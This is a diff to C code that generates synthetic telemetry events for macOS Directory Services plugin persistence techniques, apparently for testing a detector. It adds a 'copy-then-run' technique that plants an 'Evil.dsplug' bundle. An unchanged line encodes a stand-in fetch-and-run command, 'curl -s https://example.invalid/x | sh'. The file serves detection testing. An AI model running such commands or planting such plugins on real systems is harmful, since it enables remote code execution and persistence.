@@ -16,7 +16,7 @@ struct synthetic {
 };
 
 struct technique_events {
-	struct synthetic ev[6];
+	struct synthetic ev[8];
 };
 
 const struct technique techniques[] = {
@@ -28,6 +28,7 @@ const struct technique techniques[] = {
 	{"replace-binary", "binary replaced inside an existing plugin"},
 	{"upper-case-suffix", "upper-case suffix X.DSPLUG"},
 	{"loader-starts-process", "loaded plugin starts a process"},
+	{"copy-then-run", "bundle copied in, then loaded: starts a process"},
 };
 const size_t ntechniques = sizeof(techniques) / sizeof(techniques[0]);
 
@@ -63,6 +64,10 @@ static const struct technique_events events[] = {
 	  {"creation", "creation", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}},
 	  {"change", "modification", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
 	{{{"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "curl -s https://example.invalid/x | sh"}}}},
+	{{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
+	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+	  {"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "id"}}}},
 };
 
 static void add_time(cJSON *obj, const char *key, int64_t us)
@@ -130,7 +135,7 @@ static cJSON *synthetic_event(const struct synthetic *s, const char *host, int64
 void technique_events(size_t t, int64_t base_us, struct strbuf *out)
 {
 	const struct technique_events *te = &events[t];
-	for (int i = 0; i < 6 && te->ev[i].type; i++) {
+	for (int i = 0; i < 8 && te->ev[i].type; i++) {
 		cJSON *ev = synthetic_event(&te->ev[i], techniques[t].id, base_us + (int64_t)i * 1000000, i);
 		char *text = cJSON_PrintUnformatted(ev);
 		strbuf_addstr(out, text);
